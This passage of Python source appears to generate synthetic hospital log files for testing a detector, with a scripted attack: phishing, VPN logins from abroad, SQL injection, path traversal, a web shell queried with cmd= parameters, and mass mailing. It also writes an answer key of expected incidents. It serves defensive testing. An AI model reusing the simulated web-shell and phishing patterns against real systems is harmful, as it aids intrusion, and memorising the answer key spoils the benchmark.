    t += rng.randint(20, 60) * _SECOND
    out.append(_apache(t, ATTACKER_SERVER, "GET", _SHELL, 200, 0, "-", requests, tag=tag))
    for command, size in _SHELL_COMMANDS:
        t += rng.randint(15, 150) * _SECOND
        out.append(_apache(t, ATTACKER_SERVER, "GET", f"{_SHELL}?cmd={command}", 200, size, "-",
                           requests, tag=tag))
    step = Step(tag, "SQL injection, path traversal and a web shell on the public web site",
                ("T1190", "T1505.003", "T1059.004"),
                _entities([], [TOR_EXIT, ATTACKER_SERVER], [], [WWW_HOST]),
                {"user_agents": [_SQLMAP], "urls": ["/recherche", "/download", "/upload.php",
                                                    _SHELL]})
    return step, out


_MASS_SUBJECT = "Document confidentiel partagé avec vous"
_MASS_ATTACHMENT = "Document_partage_CHU.html"
_MASS_HELO = "DESKTOP-4F8K2LQ"
_MASS_DOMAINS = _table((("gmail.com", 30), ("orange.fr", 15), ("hotmail.fr", 10),
                        ("free.fr", 10), ("laposte.net", 6), ("yahoo.fr", 5), ("sfr.fr", 4),
                        ("wanadoo.fr", 5), ("outlook.fr", 5), ("aphp.fr", 4),
                        ("chu-voisin.fr", 4), ("univ-exemple.fr", 2)))


def _mass_mailing(rng: random.Random, victim: VpnAccount, session: VpnSession,
                  taken: set[str]) -> tuple[Step, list[Record], list[Record]]:
    """Batches of 15-25 external recipients sent as the victim from the tunnel address, Gmail
    rate-limiting after a few batches; returns the step, Postfix and FortiGate lines."""
    tag, person = "mass-mailing", victim.person
    recipients: list[str] = []
    wanted = rng.randint(180, 260)
    while len(recipients) < wanted:
        address = _personal_address(rng, _pick(rng, _MASS_DOMAINS))
        if address not in recipients:
            recipients.append(address)
    t = _at(21, 18) + rng.randrange(60_000)
    maillog, fortigate, qids, index, batch_no = [], [], [], 0, 0
    while index < len(recipients):
        batch = tuple(recipients[index:index + rng.randint(15, 25)])
        index += len(batch)
        fates = []
        for rcpt in batch:
            if rcpt.endswith("@gmail.com") and batch_no >= 3:
                fates.append("deferred" if rng.random() < 0.7 else "stuck")
            else:
                fates.append("bounced" if rng.random() < 0.07 else "sent")
        mail = Mail("unknown", ATTACKER_TUNNEL_IP, _MASS_HELO, person.email, batch, _MASS_SUBJECT,
                    (_MASS_ATTACHMENT,), _message_id(rng, t, DOMAIN), rng.randint(30_000, 40_000),
                    _OUR_DKIM, sasl_user=victim.login)
        lines, ids = _postfix_message(rng, t, mail, fates, taken, tag)
        maillog += lines
        qids += ids
        fortigate.append(_fgt_flow(rng, session, t + rng.randint(2, 5) * _SECOND,
                                   ("10.10.0.10", 587, 6, "tcp/587"), tag))
        t += rng.randint(35, 80) * _SECOND
        batch_no += 1
    step = Step(tag, "Mass mailing to outside recipients from the compromised mailbox",
                ("T1566.001", "T1078"),
                _entities([victim.login], [ATTACKER_TUNNEL_IP], [person.email, *recipients],
                          ["mx1", _MASS_HELO]),
                {"postfix_queue_ids": qids, "subjects": [_MASS_SUBJECT],
                 "attachments": [_MASS_ATTACHMENT]})
    return step, maillog, fortigate


def _victim_own_session(rng: random.Random, victim: VpnAccount) -> list[Record]:
    """The phished clinician's own tunnel from home before the attacker's (18:20-18:55): not
    attack lines, but the first login of the impossible-travel pair (truth.json "context")."""
    start = _at(18, 20) + rng.randrange(10 * _MINUTE)
    own = VpnSession(victim, victim.home_ip, start, start + rng.randint(15, 25) * _MINUTE,
                     "10.212.134.201", rng.randint(40_000, 60_000), rng.randint(1_000, 99_999))
    tag = f"context:{VICTIM_OWN_SESSION}"
    return [_fgt_tunnel(rng, own, True, tag), _fgt_tunnel(rng, own, False, tag)]


def _attack(rng: random.Random, world: World) -> Attack:
    """Choose the targets and write the five steps."""
    doctors = [a for a in world.fortigate if a.group == "SSLVPN-Medecins"]
    fgt_targets = rng.sample(doctors, 3)
    asa_targets = rng.sample([a for a in world.asa if a.person], 2)
    chosen = {a.login for a in fgt_targets + asa_targets}
    others = rng.sample([p for p in world.staff if p.login not in chosen], rng.randint(3, 5))
    recipients = [a.person for a in fgt_targets + asa_targets] + others
    rng.shuffle(recipients)
    victim = fgt_targets[0]
    taken: set[str] = set()
    phishing, phishing_lines = _phishing(rng, _at(18, 5) + rng.randrange(60_000), recipients,
                                         taken)
    asa_tries = [asa_targets[0].login, victim.login, asa_targets[1].login, asa_targets[0].login]
    fgt_tries = [fgt_targets[1].login, fgt_targets[2].login, "administrateur", victim.login,
                 victim.login]
    vpn, vpn_fgt, vpn_asa, session = _vpn_credential_use(
        rng, victim, fgt_tries, asa_tries, _at(21, 39) + rng.randrange(60_000))
    scan, scan_lines = _web_scan(rng)
    exploit, exploit_lines = _web_exploitation(rng)
    mass, mass_maillog, mass_fgt = _mass_mailing(rng, victim, session, taken)
    records = {f.path: [] for f in FILES}
    records["mail/maillog"] = phishing_lines + mass_maillog
    records["vpn/fortigate.log"] = vpn_fgt + mass_fgt + _victim_own_session(rng, victim)
    records["vpn/asa.log"] = vpn_asa
    records["web/www-access.log"] = scan_lines + exploit_lines
    reserved = frozenset([p.login for p in recipients] + fgt_tries + asa_tries)
    return Attack((phishing, vpn, scan, exploit, mass), records, victim, reserved,
                  frozenset(taken))


# ---------------------------------------------------------------------------------------------
# Assembly
# ---------------------------------------------------------------------------------------------

_BACKGROUND: dict[str, Callable[[random.Random, World, int, Attack], list[Record]]] = {
    "web/www-access.log": _www_access,
    "web/portail-patients-iis.log": _portal_access,
    "web/proxy-access.log": _proxy_access,
    "mail/maillog": _maillog,
    "mail/exim-mainlog": _exim_mainlog,
    "vpn/fortigate.log": _fortigate,
    "vpn/asa.log": _cisco_asa,
    "vpn/openvpn.log": _openvpn,
}


def _budgets(total: int) -> dict[str, int]:
    """Background lines per file: each file's share of `total`, rounding left to the first."""
    sizes = {f.path: int(total * f.share) for f in FILES}
    sizes[FILES[0].path] += total - sum(sizes.values())
    return sizes


def _merge(*entity_maps: dict[str, list[str]]) -> dict[str, list[str]]:
    """Union of entity lists, first occurrence order."""
    keys = ("users", "source_ips", "mail_addresses", "hosts")
    return {k: list(dict.fromkeys(v for m in entity_maps for v in m[k])) for k in keys}


def _truth_steps(attack: Attack, numbered: dict[str, list[Record]]) -> list[dict[str, Any]]:
    """The attack steps with their exact line references and time spans."""
    refs: dict[str, list[dict[str, Any]]] = {s.id: [] for s in attack.steps}
    times: dict[str, list[int]] = {s.id: [] for s in attack.steps}
    for f in FILES:
        for number, (t, _, tag) in enumerate(numbered[f.path], 1):
            if tag and not tag.startswith("context:"):
                refs[tag].append({"file": f.path, "line": number})
                times[tag].append(t)
    return [{"id": s.id, "title": s.title, "attack": list(s.attack),
             "start": _iso(min(times[s.id])), "end": _iso(max(times[s.id])),
             "entities": s.entities, "indicators": s.indicators, "lines": refs[s.id]}
            for s in attack.steps]


def _truth_context(numbered: dict[str, list[Record]]) -> list[dict[str, Any]]:
    """Lines the attack did not write but that a detection needs (the victim's own session)."""
    refs = [{"file": f.path, "line": number} for f in FILES
            for number, (_, _, tag) in enumerate(numbered[f.path], 1)
            if tag == f"context:{VICTIM_OWN_SESSION}"]
    return [{"id": VICTIM_OWN_SESSION,
             "title": "The phished clinician's own VPN tunnel from home, before the attacker's "
                      "from abroad: with it, the attacker's login is impossible travel",
             "lines": refs}]


def _expected_incidents(attack: Attack, steps: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The two incidents a correlator should raise (see the module docstring)."""
    by_id = {s["id"]: s for s in steps}

    def incident(ident: str, title: str, chain: tuple[str, ...], related: str) -> dict[str, Any]:
        parts = [by_id[i] for i in chain]
        return {"id": ident, "title": title, "severity": "critical", "steps": list(chain),
                "attack": list(dict.fromkeys(a for p in parts for a in p["attack"])),
                "start": min(p["start"] for p in parts), "end": max(p["end"] for p in parts),
                "entities": _merge(*(p["entities"] for p in parts)), "related": [related]}

    victim = attack.victim.login
    return [
        incident("account-compromise", f"Account {victim} compromised: phishing, VPN access "
                 f"from abroad, mass mailing", ("phishing", "vpn-credential-use", "mass-mailing"),
                 "website-compromise"),
        incident("website-compromise", f"Public web site {WWW_HOST} compromised: scan, SQL "
                 f"injection, path traversal, web shell", ("web-scan", "web-exploitation"),
                 "account-compromise"),
    ]


_ROLE_OF_GROUP = {"SSLVPN-Medecins": ("physician", False), "GP-Astreinte": ("physician", False),
                  "SSLVPN-DSI": ("it-admin", True), "it-admins": ("it-admin", True),
                  "GP-Teletravail": ("administrative", False), "SSLVPN-Prestataires": ("vendor", False)}
# Assets: (name, criticality, host names, networks, log files), the most critical first.
_ASSETS = (
    ("dpi-dxcare", "critical", ["dxcare-app01.chu.local"], ["10.10.5.21/32"], []),
    ("pharmacie", "critical", ["pharma-app.chu.local"], ["10.10.5.50/32"], []),
    ("annuaire-ldap", "critical", [], ["10.10.0.5/32"], []),
    ("site-public-www", "high", [WWW_HOST], [], ["*www-access.log"]),
    ("portail-patients", "high", [PORTAL_HOST], ["10.10.2.15/32"], ["*portail-patients-iis.log"]),
    ("passerelle-mail-mx1", "high", ["mx1"], [], []),
    ("vpn-fortigate", "high", ["FGT-CHU-01"], [], []),
    ("vpn-asa", "high", ["asa-chu-01"], [], []),
    ("vpn-openvpn-dsi", "high", ["vpn-dsi-01"], [], []),
    ("messagerie-mailstore", "high", ["mailstore.chu.local"], ["10.10.0.25/32"], []),
    ("dns", "high", [], ["10.10.0.2/32"], []),
    ("serveur-fichiers", "high", [], ["10.10.0.60/32"], []),
    ("proxy", "medium", [], [], ["*proxy-access.log"]),
    ("webmail", "medium", ["webmail.chu.local"], ["10.10.0.30/32"], []),
    ("postes-de-travail", "low", [], ["10.20.0.0/16"], []),
)


def _inventory_yaml(world: World, attack: Attack) -> str:
    """inventory.yml: the accounts Vigie may meet (remote access, phished staff, applications,
    the built-in administrator, which is disabled), the assets, and the usual country."""
    q = json.dumps
    lines = ["# The CHU's inventory for Vigie (--inventory): accounts, assets, usual countries.",
             "usual_countries: [FR]", "accounts:"]
    seen: set[str] = set()

    def account(name: str, roles: list[str], department: str | None, admin: bool = False,
                service: bool = False, disabled: bool = False) -> None:
        if name in seen:
            return
        seen.add(name)
        extra = f", department: {q(department)}" if department else ""
        lines.append(f"  - {{name: {q(name)}, roles: {q(roles)}{extra}, admin: {q(admin)}, "
                     f"service_account: {q(service)}, disabled: {q(disabled)}}}")

    for vpn in world.fortigate + world.asa + world.openvpn:
        role, admin = _ROLE_OF_GROUP[vpn.group]
        account(vpn.login, [role], vpn.person.department if vpn.person else None, admin)
    staff = {p.login: p for p in world.staff}
    for login in sorted(attack.reserved_logins):
        if login in staff:
            person = staff[login]
            account(login, ["clinician" if person.clinical else "staff"], person.department)
    for name, *_ in _APPLICATIONS[0]:
        account(name, ["application"], "DSI", service=True)
    account("administrateur", ["built-in"], "DSI", admin=True, disabled=True)
    lines.append("assets:")
    for name, level, hosts, nets, files in _ASSETS:
        lines.append(f"  - {{name: {q(name)}, criticality: {level}, hostnames: {q(hosts)}, "
                     f"networks: {q(nets)}, log_files: {q(files)}}}")
    return "\n".join(lines) + "\n"


def _tor_exits() -> str:
    """tor-exits.txt: an anonymiser list for --threat-list (one block a line)."""
    return ("# Tor exit relay operators' blocks (anonymiser list for vigie --threat-list)\n"
            + "".join(f"{net}\n" for net in TOR_EXIT_NETS))


def generate_chu(out_dir: pathlib.Path, events: int = 200_000, seed: int = 7,
                 progress: Callable[[str], None] | None = None) -> dict:
    """Write the scenario's log files and truth.json into out_dir; return a short summary.

    Exactly `events` log lines in all (truth.json not counted); events >= MIN_EVENTS.
    """
    if events < MIN_EVENTS:
        raise ValueError(f"the chu scenario needs at least {MIN_EVENTS} events, got {events}")
    out_dir = pathlib.Path(out_dir)
    world = _world(_rng(seed, "world"))
    attack = _attack(_rng(seed, "attack"), world)
    attack_records = {path: _clip(records) for path, records in attack.records.items()}
    budgets = _budgets(events - sum(len(r) for r in attack_records.values()))
    numbered: dict[str, list[Record]] = {}
    end_seconds = END_MS // 1000
    for f in FILES:
        background = _BACKGROUND[f.path](_rng(seed, f.path), world, budgets[f.path], attack)
        records = background + attack_records[f.path]
        records.sort(key=itemgetter(0))
        numbered[f.path] = records
        path = out_dir / f.path
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(("\n".join(r[1] for r in records) + "\n").encode("utf-8"))
        os.utime(path, (end_seconds, end_seconds))
        if progress:
            progress(f"{f.path}: {len(records):,} lines ({f.format})")
    steps = _truth_steps(attack, numbered)
    truth = {
        "scenario": "chu", "seed": seed, "events": events, "timezone": TIMEZONE,
        "date": DATE.isoformat(), "start": _iso(START_MS), "end": _iso(END_MS),
        "files": {f.path: {"format": f.format, "family": f.family,
                           "lines": len(numbered[f.path])} for f in FILES},
        "attack_steps": steps,
        "context": _truth_context(numbered),
        "expected_incidents": _expected_incidents(attack, steps),
    }
    for name, text in (("inventory.yml", _inventory_yaml(world, attack)), ("tor-exits.txt", _tor_exits())):
        (out_dir / name).write_bytes(text.encode("utf-8"))
        os.utime(out_dir / name, (end_seconds, end_seconds))
    truth_path = out_dir / "truth.json"
    truth_path.write_bytes((json.dumps(truth, ensure_ascii=False, indent=1) + "\n").encode("utf-8"))
    os.utime(truth_path, (end_seconds, end_seconds))
    if progress:
        progress(f"truth.json: {len(steps)} attack steps, "
                 f"{sum(len(s['lines']) for s in steps):,} attack lines")
    return {
        "out_dir": str(out_dir), "events": sum(len(r) for r in numbered.values()), "seed": seed,
        "files": {f.path: len(numbered[f.path]) for f in FILES},
        "attack_steps": [{"id": s["id"], "start": s["start"], "end": s["end"],
                          "lines": len(s["lines"])} for s in steps],
        "expected_incidents": [i["id"] for i in truth["expected_incidents"]],
    }
